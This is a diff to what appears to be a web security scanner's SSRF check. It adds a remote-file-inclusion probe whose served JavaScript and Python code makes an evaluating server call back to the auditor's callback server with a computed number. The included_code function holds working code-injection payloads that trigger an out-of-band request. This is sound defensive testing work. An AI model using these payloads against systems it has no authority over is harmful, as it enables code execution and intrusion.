@@ -4,7 +4,9 @@ No request waits for the callback: a fetch made while handling the request is lo
 its answer arrives, and one made later is collected by `settle` at the end of the run, with a
 single short wait for all of them. When the fetch is seen at once, one more URL whose answer
 is `a*b` tells whether the app also evaluates what it fetched (remote file inclusion): the
-product in the answer is code injection."""
+product in the answer is code injection. The served text, in the route's language, also makes
+the evaluator request the callback server with another product: code that ran is proven even
+where its value is never shown (or the handler dies on it)."""
 
 from __future__ import annotations
 
@@ -21,6 +23,7 @@ class Ssrf(PointCheck):
     category = "ssrf"
 
     SETTLE = 0.5  # seconds the run's end waits for late callbacks, once for all of them
+    INCLUDED_WAIT = 0.3  # seconds to wait for served code's own fetch (only where the app fetched the URL)
 
     def __init__(self) -> None:
         self.pending: list[tuple[str, Exchange, InjectionPoint]] = []  # sent, not yet called back
@@ -63,11 +66,38 @@ class Ssrf(PointCheck):
 
     def _included(self, sender: Sender, server: CallbackServer, point: InjectionPoint, host: str) -> Confirmation | None:
         tok, (a, b) = token(), numbers()
-        server.serve(tok, f"{a}*{b}")
+        echo, (c, d) = token(), numbers()
+        server.serve(tok, included_code(point.route.language, f"{a}*{b}", server.url(echo), f"{c}*{d}"))
         ex = sender.send(point, server.url(tok, host))
         if fresh(ex, str(a * b), sender.baseline(point)):
             return Confirmation("code-injection", "code",
                                 f"remote file inclusion: {point.label} makes the server fetch a URL and evaluate "
                                 "its text (the product of two random numbers it served came back)", ex, str(a * b),
                                 point, severity="critical")
+        # The evaluation made during the request shows before its answer; a short wait covers a
+        # handler that evaluates after answering, or dies on the value (then there is no answer).
+        if server.seen(f"{echo}{c * d}", wait=self.INCLUDED_WAIT):
+            return Confirmation("code-injection", "code",
+                                f"remote file inclusion: {point.label} makes the server fetch a URL and evaluate "
+                                "its text (the code it served fetched auditor's callback server with the product "
+                                "of two random numbers)", ex, f"{echo}{c * d}", point, severity="critical")
         return None
+
+
+def included_code(language: str, product: str, url: str, second: str) -> str:
+    """What the callback server serves to test remote file inclusion: an expression whose value
+    is `product`, and which, in the route's own language, first requests `url` followed by the
+    value of `second` (the evaluator proves it ran even where the value is not shown). The
+    request goes to auditor's callback server on 127.0.0.1, bypassing any proxy."""
+    if language in ("javascript", "typescript"):
+        # node sends the request only after the current code returns, so the value must not end
+        # the process first (a handler that uses it as a child process, `ev.stdout.on(...)`,
+        # would throw): it is a stand-in that any property or call returns itself, and that
+        # reads as the product wherever it becomes text or a number.
+        value = (f"(()=>{{const v={product};const p=new Proxy(function(){{}},{{get:(t,k)=>k===Symbol.toPrimitive?"
+                 f"()=>v:k==='then'?undefined:p,apply:()=>p}});return p}})()")
+        return f"(typeof require=='function'&&require('http').get('{url}'+({second})).on('error',()=>0),{value})"
+    if language == "python":
+        lib = "__import__('urllib.request').request"
+        return f"({lib}.build_opener({lib}.ProxyHandler({{}})).open('{url}'+str({second}),timeout=3),{product})[1]"
+    return product
